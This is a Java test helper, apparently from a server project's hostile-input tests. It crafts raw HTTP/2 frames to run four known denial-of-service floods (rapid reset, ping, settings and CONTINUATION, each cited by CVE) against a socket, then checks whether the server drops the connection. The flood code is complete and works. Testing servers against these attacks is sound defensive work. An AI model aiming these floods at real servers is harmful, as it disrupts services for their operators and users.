package io.rayoperator.testing.hostile;

import java.io.BufferedOutputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.Map;

/** Frames of HTTP/2 (RFC 9113) that cost the client nothing, until the server has enough. */
final class Http2Flood {

  private static final int BUFFER = 16_384;
  private static final int PATIENCE_MILLIS = 5_000;
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int CONTINUATION = 9;
  private static final int END_HEADERS = 4;
  private static final byte[] CANCEL = {0, 0, 0, 8};

  private static final Map<String, String> REQUEST =
      Map.of(
          ":method", "POST",
          ":scheme", "https",
          ":authority", "127.0.0.1",
          ":path", "/convert",
          "content-type", "application/json");

  private final DataOutputStream out;

  private Http2Flood(Socket socket) throws IOException {
    out = new DataOutputStream(new BufferedOutputStream(socket.getOutputStream(), BUFFER));
    out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
    frame(SETTINGS, 0, 0, new byte[0]);
    out.flush();
  }

  /** Begins requests, and resets each at once (CVE-2023-44487). */
  static String resets(Socket socket, int count) throws IOException {
    return flood(
        socket,
        flood -> {
          byte[] headers = headers(REQUEST);
          for (int i = 0; i < count; i++) {
            int stream = 2 * i + 1;
            flood.frame(HEADERS, END_HEADERS, stream, headers);
            flood.frame(RST_STREAM, 0, stream, CANCEL);
          }
        });
  }

  /** Asks for answers to pings, and reads none meanwhile (CVE-2019-9512). */
  static String pings(Socket socket, int count) throws IOException {
    return flood(
        socket,
        flood -> {
          for (int i = 0; i < count; i++) {
            flood.frame(PING, 0, 0, new byte[8]);
          }
        });
  }

  /** Asks for acknowledgements of settings, and reads none meanwhile (CVE-2019-9515). */
  static String settings(Socket socket, int count) throws IOException {
    return flood(
        socket,
        flood -> {
          for (int i = 0; i < count; i++) {
            flood.frame(SETTINGS, 0, 0, new byte[0]);
          }
        });
  }

  /** Headers of one request that never end (CVE-2024-27316). */
  static String continuations(Socket socket, int count) throws IOException {
    return flood(
        socket,
        flood -> {
          flood.frame(HEADERS, 0, 1, headers(REQUEST));
          byte[] more = headers(Map.of("x-more", "y".repeat(100)));
          for (int i = 0; i < count; i++) {
            flood.frame(CONTINUATION, 0, 1, more);
          }
        });
  }

  @FunctionalInterface
  private interface Frames {
    void send(Http2Flood flood) throws IOException;
  }

  private static String flood(Socket socket, Frames frames) throws IOException {
    try (socket) {
      Http2Flood flood = new Http2Flood(socket);
      try {
        frames.send(flood);
        flood.out.flush();
      } catch (IOException e) {
        return Ending.ENDED;
      }
      return isEnded(socket) ? Ending.ENDED : Ending.TAKEN;
    }
  }

  /** Whether the server ends the connection, after what it has to say. */
  private static boolean isEnded(Socket socket) throws IOException {
    socket.setSoTimeout(PATIENCE_MILLIS);
    byte[] answers = new byte[BUFFER];
    try {
      while (socket.getInputStream().read(answers) >= 0) {
        // What it says does not matter here.
      }
      return true;
    } catch (SocketTimeoutException e) {
      return false;
    } catch (IOException e) {
      return true;
    }
  }

  private void frame(int type, int flags, int stream, byte[] payload) throws IOException {
    out.writeByte(payload.length >> 16);
    out.writeShort(payload.length);
    out.writeByte(type);
    out.writeByte(flags);
    out.writeInt(stream);
    out.write(payload);
  }

  /** Literals without a table and without Huffman's code (RFC 7541, section 6.2.2). */
  private static byte[] headers(Map<String, String> fields) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    fields.entrySet().stream()
        .sorted(Map.Entry.comparingByKey()) // those with a colon have to stand first
        .forEach(
            field -> {
              block.write(0);
              for (String text : new String[] {field.getKey(), field.getValue()}) {
                block.write(text.length());
                block.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
              }
            });
    return block.toByteArray();
  }
}
